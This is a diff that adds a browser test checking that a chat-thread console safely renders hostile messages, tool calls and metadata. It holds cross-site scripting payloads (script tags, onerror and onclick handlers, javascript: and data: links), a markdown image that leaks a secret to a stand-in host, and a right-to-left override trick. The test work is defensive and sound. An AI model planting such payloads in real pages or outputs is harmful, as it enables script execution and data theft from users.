@@ -1,0 +1,62 @@
+import { expect, it } from 'vitest';
+import { describeInBrowser, useConsole } from './browser.ts';
+
+const payloads = [
+  '<img src=x onerror="alert(1)"><script>alert(2)</script>',
+  '![secret](https://elsewhere.example/leak.png?q=secret)',
+  '[click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)',
+  '<a href="https://elsewhere.example" onmouseover="alert(5)">hover</a>',
+  '[good](https://elsewhere.example/page)',
+].join('\n\n');
+
+const name = '<b onclick=alert(6)>\u202Etool</b>';
+
+/** A thread of which every text is an attack. */
+const messages = [
+  { type: 'human', content: payloads, name },
+  {
+    type: 'ai',
+    content: [
+      { type: 'reasoning', reasoning: payloads },
+      { type: 'text', text: payloads },
+    ],
+    tool_calls: [{ id: 'c', name, args: { [name]: payloads }, type: 'tool_call' }],
+  },
+  { type: 'tool', tool_call_id: 'c', content: payloads, name },
+];
+
+describeInBrowser('text of users and models', () => {
+  const console = useConsole();
+
+  it('is never executed, and loads nothing from elsewhere', async () => {
+    const { thread_id: threadId } = await console.client.threads.create({
+      graphId: 'agent',
+      metadata: { [name]: payloads, case: 'hostile' },
+      supersteps: [{ updates: [{ values: { messages }, as_node: 'agent' }] }],
+    });
+    const page = await console.open(`/threads/${threadId}`);
+    await page.getByText('image not loaded: secret').first().waitFor();
+    await page.getByRole('button', { name: /tool/ }).first().click();
+    await page.getByText('Reasoning').click();
+    const links = page.getByRole('log').getByRole('link');
+    const hrefs = await links.evaluateAll((all) =>
+      all.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]),
+    );
+    expect(hrefs.filter(([href]) => href !== '')).toEqual(
+      hrefs
+        .filter(([href]) => href !== '')
+        .map(() => ['https://elsewhere.example/page', 'noopener noreferrer nofollow']),
+    );
+    expect(hrefs.length).toBeGreaterThan(0);
+    expect(await page.getByText('‹U+202E›').count()).toBeGreaterThan(0);
+    for (const tab of ['Checkpoints', 'Details']) {
+      await page.getByRole('tab', { name: tab }).click();
+      if (tab === 'Checkpoints') await page.getByRole('button', { name: /human, / }).click();
+      await page.getByText('onerror').first().waitFor();
+    }
+    await page.goto(`${console.url}/console/threads?meta=case:hostile`);
+    await page.getByRole('row').nth(1).waitFor();
+    expect(await page.locator('[onerror], [onclick], [onmouseover], script:not([src])').count()).toBe(0);
+    // A dialog, an uncaught error, or a request to elsewhere fails the test after it.
+  });
+});
